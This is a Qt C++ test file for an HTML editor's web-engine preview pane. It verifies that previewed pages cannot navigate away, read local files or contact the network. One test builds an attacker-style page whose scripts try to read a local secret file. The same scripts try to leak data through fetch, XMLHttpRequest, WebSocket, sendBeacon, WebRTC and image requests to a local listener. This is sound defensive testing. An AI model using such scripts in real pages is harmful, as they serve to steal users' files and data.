// The preview on the web engine (the tsle_preview plugin, loaded when the
// preview is first shown): loaded only when a page is created or opened, from
// memory at any size or from the page's file, and moving nowhere after that
// but in its frames; a page's scripts run only when allowed, and neither they
// nor its markup read local files outside its folder tree or reach the
// network but for the images and styles the user allowed. Needs an X display
// (run by with-display.sh).
#include <QBuffer>
#include <QImage>
#include <QNetworkDatagram>
#include <QPlainTextEdit>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QUdpSocket>
#include <QWebEngineScript>
#include <QWebEngineView>
#include <QtTest>

#include "document/tessel_doc.h"
#include "settings/app_settings.h"
#include "shell/ui/child_frame.h"
#include "shell/ui/preview_pane.h"

class WebPreviewTest : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void showsThePageOfTheLastInitialUpdateOnly();
    void refusesLinksAndRefreshesButFillsFrames();
    void pageReadsNoFileAndReachesNoNetwork();
    void pageLoadsItsOwnImagesAndStylesOnly();

private:
    QString Write(const QString& name, const QByteArray& text) {
        QFile f(m_dir.filePath(name));
        if (!f.open(QIODevice::WriteOnly) || f.write(text) != text.size())
            qFatal("cannot write %s", qPrintable(name));
        return m_dir.filePath(name);
    }
    QTemporaryDir m_dir;
};

namespace {

// The engine's page, once the pane has loaded the engine.
QWebEnginePage* EnginePage(const CPreviewPane* preview) {
    const auto* view =
        preview->EngineWidget() ? preview->EngineWidget()->findChild<QWebEngineView*>() : nullptr;
    return view ? view->page() : nullptr;
}

// Runs script in the page, in a world of the program's own that runs whether
// or not the page's scripts may, and waits for its result.
QVariant Run(QWebEnginePage* page, const QString& script) {
    QVariant result;
    bool done = false;
    page->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant& v) {
        result = v;
        done = true;
    });
    QDeadlineTimer deadline(10000);
    while (!done && !deadline.hasExpired())
        QTest::qWait(10);
    if (!done)
        qWarning("script timed out: %s", qPrintable(script));
    return result;
}

// A web server and a UDP port on 127.0.0.1 that note everything that reaches
// them. The server answers /img.png with a picture 9 pixels wide and
// /style.css with a style that makes #remote 53 pixels high; anything else
// with 404.
class CListener : public QObject {
public:
    CListener() {
        if (!m_tcp.listen(QHostAddress::LocalHost) || !m_udp.bind(QHostAddress::LocalHost, 0))
            qFatal("cannot listen on 127.0.0.1");
        connect(&m_tcp, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = m_tcp.nextPendingConnection()) {
                ++m_nConnections;
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] { Answer(socket); });
            }
        });
        connect(&m_udp, &QUdpSocket::readyRead, this, [this] {
            while (m_udp.hasPendingDatagrams()) {
                m_udp.receiveDatagram();
                ++m_nDatagrams;
            }
        });
    }
    quint16 TcpPort() const { return m_tcp.serverPort(); }
    quint16 UdpPort() const { return m_udp.localPort(); }
    int Connections() const { return m_nConnections; }
    int Datagrams() const { return m_nDatagrams; }
    // The request lines received ("GET /img.png"), sorted.
    QStringList Requests() const {
        QStringList sorted = m_requests;
        sorted.sort();
        return sorted;
    }
    void Clear() {
        m_nConnections = m_nDatagrams = 0;
        m_requests.clear();
    }

private:
    void Answer(QTcpSocket* socket) {
        QByteArray& request = m_pending[socket];
        request += socket->readAll();
        if (!request.contains("\r\n\r\n"))
            return;
        const QList<QByteArray> words = request.left(request.indexOf("\r\n")).split(' ');
        const QString line = QString::fromLatin1(words.value(0) + ' ' + words.value(1));
        m_requests << line;
        QByteArray body, type = "text/plain", status = "200 OK";
        if (line == QLatin1String("GET /img.png")) {
            QImage picture(9, 4, QImage::Format_RGB32);
            picture.fill(Qt::blue);
            QBuffer buffer(&body);
            buffer.open(QIODevice::WriteOnly);
            picture.save(&buffer, "PNG");
            type = "image/png";
        } else if (line == QLatin1String("GET /style.css")) {
            body = "#remote { height: 53px }";
            type = "text/css";
        } else {
            status = "404 Not Found";
        }
        socket->write("HTTP/1.1 " + status + "\r\nContent-Type: " + type + "\r\nContent-Length: " +
                      QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
        socket->disconnectFromHost();
        m_pending.remove(socket);
    }

    QTcpServer m_tcp;
    QUdpSocket m_udp;
    QHash<QTcpSocket*, QByteArray> m_pending;
    QStringList m_requests;
    int m_nConnections = 0;
    int m_nDatagrams = 0;
};

// The size a page gives an element, "width height", read from its layout.
QString BoxOf(QWebEnginePage* page, const QString& id) {
    return Run(page, QStringLiteral("(function (e) { return e ? e.offsetWidth + ' ' + "
                                    "e.offsetHeight : 'none'; })(document.getElementById('%1'))")
                         .arg(id))
        .toString();
}

} // namespace

void WebPreviewTest::initTestCase() {
    QVERIFY(m_dir.isValid());
    QImage picture(7, 5, QImage::Format_RGB32);
    picture.fill(Qt::red);
    QVERIFY(picture.save(m_dir.filePath("pic.png")));
    Write("picture.html", "<html><head><title>Picture</title></head>"
                          "<body><img src=\"pic.png\"></body></html>");
    Write("target.html", "<html><head><title>Target</title></head><body></body></html>");
    Write("refresh.html", "<html><head><title>Refresh</title>"
                          "<meta http-equiv=\"refresh\" content=\"0; url=target.html\">"
                          "</head><body></body></html>");
    Write("link.html", "<html><head><title>Link</title></head><body style=\"margin:0\">"
                       "<a id=\"go\" href=\"target.html\" style=\"display:block;height:80px\">"
                       "go</a></body></html>");
    Write("frames.html", "<html><head><title>Frames</title></head>"
                         "<frameset cols=\"50%,50%\"><frame name=\"left\" src=\"left.html\">"
                         "<frame name=\"right\" src=\"right.html\"></frameset></html>");
    Write("left.html", "<html><body>left <a href=\"target2.html\" target=\"right\">on</a>"
                       "</body></html>");
    Write("right.html", "<html><body>right</body></html>");
    Write("target2.html", "<html><body>right again</body></html>");
}

void WebPreviewTest::showsThePageOfTheLastInitialUpdateOnly() {
    CTesselDoc doc;
    doc.OnNewDocument();
    auto frame = std::make_unique<CChildFrame>(&doc, new QPlainTextEdit);
    CPreviewPane* preview = frame->Preview();
    QVERIFY(preview);
    frame->resize(800, 600);
    frame->show();
    QVERIFY(QTest::qWaitForWindowExposed(frame.get()));
    QTest::qWait(50);
    QCOMPARE(preview->HasEngine(), 0); // nothing started while the preview is hidden

    // A new page larger than a data URL may be, taken while hidden.
    const std::string title = std::string(3 << 20, 'x') + "END";
    doc.SetPageTitle(title);
    doc.InitialUpdate();
    QVERIFY(doc.GetPageText().size() > (2u << 20));
    QCOMPARE(preview->HasEngine(), 0);

    QSignalSpy finished(preview, &CPreviewPane::loadFinished);
    frame->ShowWebPage();
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
    QCOMPARE(finished.at(0).at(0).toBool(), true);
    QWebEnginePage* page = EnginePage(preview);
    QVERIFY(page);
    QCOMPARE(Run(page, "document.title.length").toInt(), int(title.size()));
    QCOMPARE(Run(page, "document.title.slice(-3)").toString(), QString("END"));
    QCOMPARE(frame->CanPrint(), 1); // the preview is the active view
    // That text went through a file that only the user can read.
    const QFileInfo bigPage(PreviewTreeFile(page->url()));
    QVERIFY2(bigPage.isFile(), qPrintable(page->url().toString()));
    QCOMPARE(QFileInfo(bigPage.path()).permissions() & (QFile::ReadGroup | QFile::ReadOther),
             QFile::Permissions());

    // Edits and refills leave the preview alone.
    QSignalSpy started(preview, &CPreviewPane::loadStarted);
    doc.SetPageTitle("Edited");
    doc.UpdateAllViews();
    QTest::qWait(200);
    QCOMPARE(started.count(), 0);
    QCOMPARE(Run(page, "document.title.length").toInt(), int(title.size()));

    // Another page opened: loaded from its file, its picture from its folder;
    // the frame stays on the web page.
    doc.SetModifiedFlag(0);
    QCOMPARE(doc.OpenDocumentFile(m_dir.filePath("picture.html")), 1);
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 2, 10000);
    QCOMPARE(Run(page, "document.title").toString(), QString("Picture"));
    QCOMPARE(Run(page, "document.images[0].naturalWidth").toInt(), 7);
    QCOMPARE(frame->State().GetViewMode(), VIEW_MODE_WEBPAGE);

    // A small new page is shown from memory; the big page's copy goes with the preview.
    doc.OnNewDocument();
    doc.SetPageTitle("Small");
    doc.InitialUpdate();
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 3, 10000);
    QCOMPARE(Run(page, "document.title").toString(), QString("Small"));
    QVERIFY(PreviewTreeFile(page->url()).isEmpty());
    frame.reset();
    QVERIFY(!QFileInfo::exists(bigPage.path()));
}

void WebPreviewTest::refusesLinksAndRefreshesButFillsFrames() {
    // A page whose file went away before the preview was first shown: the
    // engine's error page, which prints like any page.
    CTesselDoc doc;
    const QString gone = Write("gone.html", "<html><head></head><body>gone</body></html>");
    QCOMPARE(doc.OpenDocumentFile(gone), 1);
    QVERIFY(QFile::remove(gone));
    CPreviewPane preview(&doc);
    QSignalSpy finished(&preview, &CPreviewPane::loadFinished);
    preview.resize(600, 400);
    preview.show();
    QTRY_VERIFY(preview.HasEngine());
    QWebEnginePage* page = EnginePage(&preview);
    QVERIFY(page);
    QSignalSpy refused(&preview, &CPreviewPane::navigationRefused);
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
    QCOMPARE(finished.at(0).at(0).toBool(), false);
    QCOMPARE(preview.CanPrint(), 1);

    // A refresh tag that points elsewhere: the page stays.
    QCOMPARE(doc.OpenDocumentFile(m_dir.filePath("refresh.html")), 1);
    QTRY_COMPARE_WITH_TIMEOUT(refused.count(), 1, 10000);
    QCOMPARE(refused.at(0).at(0).toUrl().fileName(), QString("target.html"));
    QCOMPARE(page->url().fileName(), QString("refresh.html"));

    // A link clicked with the mouse, and a script's move: nothing happens.
    QCOMPARE(doc.OpenDocumentFile(m_dir.filePath("link.html")), 1);
    QTRY_COMPARE_WITH_TIMEOUT(page->title(), QString("Link"), 10000);
    QTRY_COMPARE(finished.count(), 3); // refused moves are no loads of the page
    QWidget* surface = QWebEngineView::forPage(page)->focusProxy();
    QVERIFY(surface);
    QTest::qWait(100); // the first frame painted, so that the click hits the link
    QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(20, 40));
    QTRY_COMPARE_WITH_TIMEOUT(refused.count(), 2, 10000);
    Run(page, "location.href = 'target.html'");
    QTRY_COMPARE_WITH_TIMEOUT(refused.count(), 3, 10000);
    QTest::qWait(100);
    QCOMPARE(page->url().fileName(), QString("link.html"));
    QCOMPARE(page->title(), QString("Link"));

    // A frame set fills in, and a link in one frame may load the other.
    QCOMPARE(doc.OpenDocumentFile(m_dir.filePath("frames.html")), 1);
    const QString frames = QStringLiteral(
        "(function () { try { return frames[0].document.body.textContent + '|' + "
        "frames[1].document.body.textContent; } catch (e) { return 'closed'; } })()");
    QTRY_COMPARE_WITH_TIMEOUT(Run(page, frames).toString(), QString("left on|right"), 10000);
    Run(page, "frames[0].document.links[0].click()");
    QTRY_COMPARE_WITH_TIMEOUT(Run(page, frames).toString(), QString("left on|right again"), 10000);
    QCOMPARE(refused.count(), 3);
}

void WebPreviewTest::pageReadsNoFileAndReachesNoNetwork() {
    // A page as an attacker would write it: markup that reaches past its
    // folder and onto the network, and scripts that read local files and
    // send them off by every road the engine has.
    CListener listener;
    const QString secret = Write("secret.txt", "TOP-SECRET");
    Write("outside.css", "#outside-style { width: 61px }");
    QVERIFY(QDir(m_dir.path()).mkpath("attack"));
    Write("attack/notes.txt", "IN-TREE");
    QString html = QStringLiteral(R"(<html><head><title>Attack</title>
<link rel="stylesheet" href="../outside.css">
<link rel="stylesheet" href="http://127.0.0.1:PORT/style.css">
<link rel="prefetch" href="http://127.0.0.1:PORT/prefetch">
</head><body>
<img id="outside" src="../pic.png"><img id="file" src="file://DIR/pic.png">
<img id="remote-img" src="http://127.0.0.1:PORT/img.png">
<div id="outside-style"></div><div id="remote"></div>
<iframe src="notes.txt"></iframe><p id="results"></p>
<script>
var results = [];
function note(s) { results.push(s); document.getElementById('results').textContent = results.join(' '); }
fetch('file://SECRET').then(r => r.text()).then(t => note('fetch-file:' + t), e => note('fetch-file:refused'));
fetch('notes.txt').then(r => r.text()).then(t => note('fetch-tree:' + t), e => note('fetch-tree:refused'));
try { var x = new XMLHttpRequest(); x.open('GET', 'file://DIR/attack/notes.txt', false); x.send();
      note('xhr:' + x.responseText); } catch (e) { note('xhr:refused'); }
try { var ws = new WebSocket('ws://127.0.0.1:PORT/?d=leak'); ws.onopen = () => note('ws:open');
      ws.onerror = () => note('ws:refused'); } catch (e) { note('ws:refused'); }
try { var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
      pc.createDataChannel('d'); pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) { }
try { new WebTransport('https://127.0.0.1:UDP/'); note('webtransport:made'); } catch (e) { }
fetch('http://127.0.0.1:PORT/fetch').then(r => note('fetch-http:' + r.status), e => note('fetch-http:refused'));
navigator.sendBeacon('http://127.0.0.1:PORT/beacon', 'leak');
new Image().src = 'http://127.0.0.1:PORT/img.png?script';
onload = function () {
    try { note('frame:' + frames[0].document.body.textContent); } catch (e) { note('frame:refused'); }
    setTimeout(() => document.body.setAttribute('data-done', 'yes'), 1500);
};
</script></body></html>)");
    html.replace("PORT", QString::number(listener.TcpPort()))
        .replace("UDP", QString::number(listener.UdpPort()))
        .replace("SECRET", secret)
        .replace("DIR", m_dir.path());
    const QString attack = Write("attack/attack.html", html.toUtf8());

    CTesselDoc doc;
    QCOMPARE(doc.OpenDocumentFile(attack), 1);
    CPreviewPane preview(&doc);
    CAppSettings settings;
    preview.SetSettings(&settings);
    QSignalSpy finished(&preview, &CPreviewPane::loadFinished);
    preview.resize(600, 400);
    preview.show();
    QTRY_VERIFY(preview.HasEngine());
    QWebEnginePage* page = EnginePage(&preview);
    QVERIFY(page);

    // Scripts off, the default: the markup alone, held to the page's folder.
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
    QCOMPARE(Run(page, "document.title").toString(), QString("Attack"));
    QTest::qWait(1500);
    QCOMPARE(Run(page, "document.getElementById('results').textContent").toString(), QString());
    for (const char* id : {"outside", "file", "remote-img"})
        QCOMPARE(
            Run(page, QStringLiteral("document.getElementById('%1').naturalWidth").arg(id)).toInt(),
            0);
    QVERIFY(BoxOf(page, "outside-style").section(' ', 0, 0).toInt() != 61);
    QCOMPARE(BoxOf(page, "remote").section(' ', 1, 1), QString("0"));
    QCOMPARE(listener.Connections(), 0);

    // Scripts on for the run: they run, and every road is closed.
    settings.m_preview.m_bScriptsThisRun = true;
    preview.OnSettingsChanged();
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 2, 30000);
    QTRY_COMPARE_WITH_TIMEOUT(Run(page, "document.body.getAttribute('data-done')").toString(),
                              QString("yes"), 15000);
    const QString results = Run(page, "document.getElementById('results').textContent").toString();
    for (const char* expected : {"fetch-file:refused", "fetch-tree:refused", "xhr:refused",
                                 "ws:refused", "fetch-http:refused", "frame:refused"})
        QVERIFY2(results.contains(QLatin1String(expected)), qPrintable(results));
    QVERIFY2(!results.contains("SECRET") && !results.contains("IN-TREE") &&
                 !results.contains("webtransport"),
             qPrintable(results));
    QTest::qWait(1000); // time for a STUN request to arrive
    QCOMPARE(listener.Connections(), 0);
    QCOMPARE(listener.Datagrams(), 0);

    // Images and styles from the web allowed as well: those two arrive, and
    // still nothing else does.
    settings.m_preview.m_bRemoteResources = true;
    preview.OnSettingsChanged();
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 3, 30000);
    QTRY_COMPARE_WITH_TIMEOUT(Run(page, "document.body.getAttribute('data-done')").toString(),
                              QString("yes"), 15000);
    QTest::qWait(1000);
    QCOMPARE(Run(page, "document.getElementById('remote-img').naturalWidth").toInt(), 9);
    QCOMPARE(BoxOf(page, "remote").section(' ', 1, 1), QString("53"));
    QCOMPARE(listener.Requests(),
             QStringList({"GET /img.png", "GET /img.png?script", "GET /style.css"}));
    QCOMPARE(listener.Datagrams(), 0);
}

void WebPreviewTest::pageLoadsItsOwnImagesAndStylesOnly() {
    // A project: a section page that uses a sub-folder of its own and the
    // project's shared folder. (Which files of the tree are left out is the
    // request policy's, tested without the engine.)
    QDir root(m_dir.filePath("project"));
    for (const char* folder : {"section/img", "shared"})
        QVERIFY(root.mkpath(folder));
    const auto picture = [&](const QString& name, int width) {
        QImage image(width, 3, QImage::Format_RGB32);
        image.fill(Qt::green);
        QVERIFY(image.save(root.filePath(name)));
    };
    picture("section/img/own.png", 11);
    picture("shared/shared.png", 17);
    Write("project/section/own.css", "#own-style { width: 23px }");
    Write("project/shared/shared.css", "#shared-style { width: 31px }");
    const QString page =
        Write("project/section/page.html",
              "<html><head><title>Own</title><link rel=\"stylesheet\" href=\"own.css\">"
              "<link rel=\"stylesheet\" href=\"../shared/shared.css\"></head><body>"
              "<img id=\"own\" src=\"img/own.png\">"
              "<img id=\"shared\" src=\"../shared/shared.png\">"
              "<div id=\"own-style\"></div><div id=\"shared-style\"></div>"
              "</body></html>");

    CTesselDoc doc;
    QCOMPARE(doc.OpenDocumentFile(page), 1);
    CPreviewPane preview(&doc);
    CAppSettings settings;
    preview.SetSettings(&settings);
    QSignalSpy finished(&preview, &CPreviewPane::loadFinished);
    preview.resize(600, 400);
    preview.show();
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
    QWebEnginePage* engine = EnginePage(&preview);
    QVERIFY(engine);
    const auto width = [engine](const char* id) {
        return Run(engine, QStringLiteral("(function (e) { return e.naturalWidth === undefined ? "
                                          "e.offsetWidth : e.naturalWidth; })"
                                          "(document.getElementById('%1'))")
                               .arg(id))
            .toInt();
    };

    // No project: the page's own folder and what lies below it.
    QCOMPARE(width("own"), 11);
    QCOMPARE(width("own-style"), 23);
    QCOMPARE(width("shared"), 0);
    QVERIFY(width("shared-style") != 31);

    // The project around it: its shared folder too.
    doc.SetProjectDir(root.path());
    preview.OnSettingsChanged();
    QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 2, 30000);
    QCOMPARE(width("own"), 11);
    QCOMPARE(width("shared"), 17);
    QCOMPARE(width("shared-style"), 31);
}

int main(int argc, char** argv) {
    QApplication app(argc, argv);
    WebPreviewTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "web_preview_test.moc"
